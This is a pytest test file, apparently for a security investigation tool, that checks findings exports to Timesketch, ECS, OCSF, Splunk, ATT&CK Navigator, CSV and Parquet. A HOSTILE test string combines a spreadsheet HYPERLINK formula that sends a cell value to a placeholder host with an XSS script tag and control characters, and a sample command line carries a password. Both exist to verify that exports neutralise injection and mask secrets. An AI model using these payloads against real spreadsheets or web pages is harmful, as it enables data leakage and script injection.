"""Each target: what its consumer needs is there, hostile and secret text is harmless, files read back equal."""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from casemate.case import Case
from casemate.engine.parts import Part
from casemate.errors import BadInput
from casemate.export import ecs, ocsf, splunk, tabular, timesketch
from casemate.export.content import Content, Endpoint, ExportedFinding, Window
from casemate.export.navigator import layer
from casemate.export.run import TARGETS, export
from casemate.intel.attack import Knowledge, Technique
from casemate.schema.findings import FINDING_RECORDS, FINDINGS

AT = datetime(2026, 3, 2, 1, 0, 0, 123456, tzinfo=UTC)
EVIDENCE = "ab" * 32
HOSTILE = '=HYPERLINK("http://x.example/?"&A1) <script>alert(1)</script> \u202e\x00 "quoted", line\r\nbreak'


def row(number: int, **more: Any) -> dict[str, Any]:
    """A row of the findings table."""
    return {
        "id": f"{number:032x}",
        "time": AT,
        "time_end": AT,
        "detector": "sigma",
        "rule_id": "6d2b9f4e-9d0f-4a55-8a42-0a4b8e4f7a11",
        "rule_version": "1",
        "title": HOSTILE,
        "severity": "high",
        "techniques": ["T1110.003", "T1190"],
        "tactics": ["credential-access"],
        "source": {"kind": "address", "value": "203.0.113.9"},
        "target": {"kind": "host", "value": "gw1", "service": "ssh"},
        "vector": "credential",
        "outcome": "failed",
        "confidence": "medium",
        "why": json.dumps({"because": {"field": "CommandLine", "value": "mysql -u root -phunter2secret db"}}),
        **more,
    }


ROWS = [
    row(1),
    row(2, time=None, time_end=None, source=None, target=None, techniques=[], tactics=[], severity="informational"),
    row(3, techniques=["AML.T0024", "AML.T0024.001"], tactics=["exfiltration"], detector="behaviour.scans"),
    row(4, time=datetime(2026, 3, 5, tzinfo=UTC), time_end=datetime(2026, 3, 6, tzinfo=UTC), why="not json"),
    row(5, source={"kind": "user", "value": "-2+3"}, target={"kind": "resource", "value": "@x", "service": None}),
    row(6, source={"kind": "address", "value": "not an address"}, target=None, outcome="blocked"),
]


@pytest.fixture(scope="module")
def case(tmp_path_factory: pytest.TempPathFactory) -> Case:
    """A case of six findings; the first rests on 2,500 records."""
    made = Case.create(tmp_path_factory.mktemp("export") / "case")
    stage = made.stage()
    findings = pa.Table.from_pylist(ROWS, schema=FINDINGS)
    records = [{"finding": ROWS[0]["id"], "evidence": EVIDENCE, "record": number} for number in range(2_500, 0, -1)]
    records += [{"finding": one["id"], "evidence": EVIDENCE, "record": 7} for one in ROWS[1:]]
    members = pa.Table.from_pylist(records, schema=FINDING_RECORDS)
    stage.write("findings", FINDINGS, findings.to_batches())
    stage.write("finding_records", FINDING_RECORDS, members.to_batches())
    parts: list[Part] = made.commit(stage)
    assert parts
    made.close()
    return Case.open(made.path)


@pytest.fixture(scope="module")
def found(case: Case) -> list[ExportedFinding]:
    """Its findings as they leave it."""
    return list(Content(case).findings())


def lines(path: Path) -> list[dict[str, Any]]:
    """One JSON document per line."""
    return [json.loads(line) for line in path.read_bytes().splitlines()]


def test_findings_come_by_time_with_their_first_records_and_their_number(found: list[ExportedFinding]) -> None:
    assert [int(one.id, 16) for one in found] == [1, 3, 5, 6, 4, 2]
    assert found[0].record_count == 2_500
    assert found[0].records == tuple(f"{EVIDENCE}:{number}" for number in range(1, 1_001))
    assert [one.records for one in found[1:]] == [(f"{EVIDENCE}:7",)] * 5


def test_a_window_keeps_what_reaches_into_it(case: Case) -> None:
    window = Window(datetime(2026, 3, 5, 12, tzinfo=UTC), datetime(2026, 3, 7, tzinfo=UTC))
    assert [int(one.id, 16) for one in Content(case, window).findings()] == [4]


@pytest.mark.parametrize("target", TARGETS)
def test_every_target_holds_every_finding_and_no_secret(case: Case, tmp_path: Path, target: str) -> None:
    done = export(Content(case), target, "findings", tmp_path / "out")
    assert (done.findings, done.records) == (6, 0)
    content = (tmp_path / "out").read_bytes()
    assert b"hunter2secret" not in content
    if target != "navigator":
        assert content.count(b"masked:password") or target == "parquet"
    assert sorted(path.name for path in tmp_path.iterdir()) == [one.path.name for one in done.files]
    assert (tmp_path / "out").stat().st_mode & 0o077 == 0


def test_timesketch_has_its_required_fields_and_short_values(case: Case, tmp_path: Path) -> None:
    export(Content(case), "timesketch", "findings", tmp_path / "out")
    for line in lines(tmp_path / "out"):
        assert {"message", "datetime", "timestamp", "timestamp_desc"} <= line.keys()
        assert isinstance(line["timestamp"], int)
        assert datetime.fromisoformat(line["datetime"]).timestamp() == pytest.approx(line["timestamp"] / 1e6)
        assert all(len(value.encode()) < 32_766 for value in line.values() if isinstance(value, str))
    assert lines(tmp_path / "out")[0]["timestamp"] == 1_772_413_200_123_456


def test_ecs_documents_have_a_time_and_fields_that_the_template_types(found: list[ExportedFinding]) -> None:
    properties = ecs.index_template()["template"]["mappings"]["properties"]

    def typed(document: dict[str, Any], known: dict[str, Any], path: str) -> None:
        for name, value in document.items():
            assert name in known, f"{path}{name}"
            if isinstance(value, dict) and known[name].get("type") != "flattened":
                typed(value, known[name]["properties"], f"{path}{name}.")

    for one in found:
        document = json.loads(json.dumps(ecs.finding(one)))
        assert datetime.fromisoformat(document["@timestamp"]).tzinfo is not None
        assert document["event"]["kind"] == "alert"
        typed(document, properties, "")
    document = ecs.finding(found[0])
    assert document["threat"]["technique"] == {"id": ["T1110", "T1190"], "subtechnique": {"id": ["T1110.003"]}}
    assert ecs.finding(found[1])["threat"]["technique"]["id"] == ["AML.T0024"]
    assert "source" not in ecs.finding(found[3])  # not an address: an ip field would refuse the document


def test_ocsf_events_follow_the_published_schema(found: list[ExportedFinding]) -> None:
    published = pytest.importorskip("ocsf_json_schema", reason="the published OCSF schema is not installed")
    jsonschema = pytest.importorskip("jsonschema")
    schema = published.OcsfJsonSchemaEmbedded(published.get_ocsf_schema("1.8.0"))
    validator = jsonschema.Draft202012Validator(schema.get_class_schema("detection_finding", profiles=[]))
    for one in found:
        event = json.loads(json.dumps(ocsf.finding(one)))
        assert [f"{list(error.path)}: {error.message}" for error in validator.iter_errors(event)] == []
        assert event["finding_info"]["related_events_count"] == one.record_count


def test_splunk_envelopes_keep_microseconds(found: list[ExportedFinding]) -> None:
    first, last = splunk.finding(found[0]), splunk.finding(found[-1])
    assert first["time"] == "1772413200.123456"
    assert first["host"] == "gw1"
    assert first["sourcetype"] == "casemate:finding"
    assert "time" not in last
    assert all(isinstance(value, str) for value in first["fields"].values())


def test_the_navigator_layer_names_findings_and_its_version(found: list[ExportedFinding]) -> None:
    attack = Knowledge("attack", "17.1", None, {"T1190": Technique("T1190", "x", revoked=True, revoked_by="T1191")})
    made, total = layer(found, "case", attack)
    assert total == 6
    assert made["versions"] == {"navigator": "5.1.0", "layer": "4.5", "attack": "17"}
    by_id = {one["techniqueID"]: one for one in made["techniques"]}
    assert set(by_id) == {"T1110.003", "T1191"}
    assert by_id["T1191"]["score"] == 4
    assert {"name": "finding", "value": found[0].id} in by_id["T1191"]["metadata"]
    assert "1 name one of ATLAS" in made["description"]


def test_csv_and_parquet_read_back_equal(case: Case, found: list[ExportedFinding], tmp_path: Path) -> None:
    wanted = pa.Table.from_pylist([tabular.finding_row(one) for one in found], schema=tabular.FINDING_COLUMNS)
    export(Content(case), "csv", "findings", tmp_path / "out.csv")
    export(Content(case), "parquet", "findings", tmp_path / "out.parquet")
    assert pq.read_table(tmp_path / "out.parquet").equals(wanted)
    assert tabular.read_csv(tmp_path / "out.csv", tabular.FINDING_COLUMNS).equals(wanted)


@given(st.lists(st.none() | st.text(st.characters(exclude_categories=["Cs"])) | st.sampled_from(["=1+1", "'", "'=x"])))
def test_any_cell_reads_back_and_none_begins_a_formula(tmp_path_factory: pytest.TempPathFactory, cells: list) -> None:
    schema = pa.schema([pa.field("a", pa.string()), pa.field("b", pa.int64())])
    path = tmp_path_factory.mktemp("cells") / "x.csv"
    with path.open("wb") as stream:
        tabular.write_csv(stream, schema, ({"a": cell, "b": place} for place, cell in enumerate(cells)))
    assert tabular.read_csv(path, schema).column("a").to_pylist() == cells
    assert all(not line.startswith((b'"=', b'"+', b'"-', b'"@')) for line in path.read_bytes().splitlines()[1:2])


def test_a_finding_without_a_service_reads_as_its_value() -> None:
    assert str(Endpoint("host", "a")) == "a"
    assert str(Endpoint("host", "a", "ssh")) == "a (ssh)"


@pytest.mark.parametrize(
    ("target", "only", "said"),
    [
        ("excel", "findings", "no target"),
        ("csv", "all", "cannot export only"),
        ("csv", "window", "beginning or an end"),
    ],
)
def test_what_cannot_be_exported_is_said(case: Case, tmp_path: Path, target: str, only: str, said: str) -> None:
    with pytest.raises(BadInput, match=said):
        export(Content(case), target, only, tmp_path / "out")
    assert not list(tmp_path.iterdir())


def test_targets_of_findings_refuse_records(case: Case, tmp_path: Path) -> None:
    with pytest.raises(BadInput, match="holds findings"):
        export(Content(case, Window(AT)), "ocsf", "window", tmp_path / "out")


def test_a_failed_export_leaves_the_old_file(case: Case, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "out").write_text("old")

    def fails(_: ExportedFinding) -> Callable[[], None]:
        raise OSError(28, "No space left on device")

    monkeypatch.setitem(__import__("casemate.export.run").export.run.LINE_TARGETS, "splunk", (fails, None))
    with pytest.raises(Exception, match="No space left"):
        export(Content(case), "splunk", "findings", tmp_path / "out")
    assert [path.name for path in tmp_path.iterdir()] == ["out"]
    assert (tmp_path / "out").read_text() == "old"


def test_timesketch_events_say_their_record() -> None:
    assert timesketch.NO_TIME.year == 1970
